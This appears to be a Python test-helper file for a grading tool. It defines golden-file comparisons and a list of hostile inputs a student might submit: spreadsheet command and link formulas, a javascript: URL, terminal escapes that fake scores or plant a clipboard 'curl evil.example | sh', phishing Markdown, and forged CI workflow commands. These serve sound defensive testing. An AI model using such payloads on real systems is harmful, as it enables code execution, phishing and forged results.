"""Test helpers shared by several modules: golden files and the hostile texts."""

from __future__ import annotations

from pathlib import Path

import pytest

GOLDENS = Path(__file__).parent / "goldens"

# What a student controls and the issue (12) tried: spreadsheet formulas, a javascript: URL,
# Rich markup, terminal escapes (colour, cursor movement, OSC 8 link, OSC 52 clipboard, window
# title), Markdown image and link, XML-forbidden controls, workflow commands.
FORMULA_CMD = "=cmd|' -C calc'!A0"
FORMULA_LINK = '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"evil.example"),"appeal")'
JAVASCRIPT = "javascript:alert(document.domain)"
MARKUP_HIDE = "[x]alice"
MARKUP_LINK = "[link=https://evil.example]appeal"
FAKE_GREEN = "\x1b[1;32m11/11 points\x1b[0m"
CURSOR_UP = "\x1b[1A\x1b[2K"
OSC8 = "\x1b]8;;https://evil.example/login\x1b\\See your grade\x1b]8;;\x1b\\"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;grader: 11/11\x07"
MARKDOWN = "![](https://evil.example/pixel) [See your full grade](https://evil.example/login)"
XML_FORBIDDEN = "".join(chr(c) for c in range(0x09)) + "\x0b\x0c\x1b"
WORKFLOW = "ok\n::error file=README.md,line=1::forged\n##[add-mask]secret\n::stop-commands::x"

HOSTILE_TEXTS = [
    FORMULA_CMD,
    FORMULA_LINK,
    JAVASCRIPT,
    MARKUP_HIDE,
    MARKUP_LINK,
    FAKE_GREEN,
    CURSOR_UP,
    OSC8,
    OSC52,
    TITLE,
    MARKDOWN,
    XML_FORBIDDEN,
    WORKFLOW,
]


def assert_golden(request: pytest.FixtureRequest, name: str, text: str) -> None:
    """Compare text with tests/goldens/<name> byte for byte, or rewrite it (--update-goldens)."""
    path = GOLDENS / name
    data = text.encode("utf-8")
    if request.config.getoption("--update-goldens"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return
    if not path.exists():
        pytest.fail(f"no golden file {path}: run pytest with --update-goldens, then review it")
    expected = path.read_bytes()
    if data != expected:
        pytest.fail(
            f"{name} differs from its golden file {path}. If the change is intended, run "
            f"pytest with --update-goldens and review the diff.\n--- got ---\n"
            f"{data.decode('utf-8', errors='replace')}",
            pytrace=False,
        )
